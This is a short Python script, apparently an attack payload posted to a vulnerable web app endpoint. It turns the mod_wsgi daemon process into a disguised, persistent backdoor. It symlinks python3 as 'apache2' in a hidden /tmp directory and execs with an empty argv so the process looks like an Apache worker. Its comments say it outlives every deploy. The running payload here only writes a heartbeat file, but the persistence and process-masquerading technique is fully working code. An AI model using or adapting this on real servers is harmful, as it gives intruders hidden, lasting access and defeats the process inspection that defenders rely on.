# Sent to the app's hole (POST /x): runs in a mod_wsgi daemon as the app user. The daemon becomes a Python program
# in place (exec keeps its pid, its parent -- Apache's root process -- and its start time) whose comm is "apache2"
# (the basename of the link exec'd) and whose argv reads like an Apache worker's. It never answers mod_wsgi again,
# so no deploy's touch of application.wsgi ever restarts it: a backdoor that outlives every deploy.
# This one execs with no argv at all: /proc/<pid>/cmdline is empty, as an exiting process's is.
import os

d = "/tmp/.cache-%d" % os.getuid()
os.makedirs(d, exist_ok=True)
link = d + "/apache2"
if not os.path.islink(link):
    os.symlink("/usr/bin/python3", link)
with open(d + "/run.py", "w") as f:
    f.write("import os, time\n"
            "while True:\n"
            "    with open('/tmp/backdoor-alive', 'a') as f:\n"
            "        f.write('%d uid=%d ppid=%d\\n' % (time.time(), os.getuid(), os.getppid()))\n"
            "    time.sleep(5)\n")
fd = os.open(d + "/run.py", os.O_RDONLY)
os.dup2(fd, 0)
import ctypes  # noqa: E402

argv = (ctypes.c_char_p * 1)(None)  # execve(path, [], env): no argv at all (the kernel shows an empty one)
ctypes.CDLL(None).execv(link.encode(), argv)
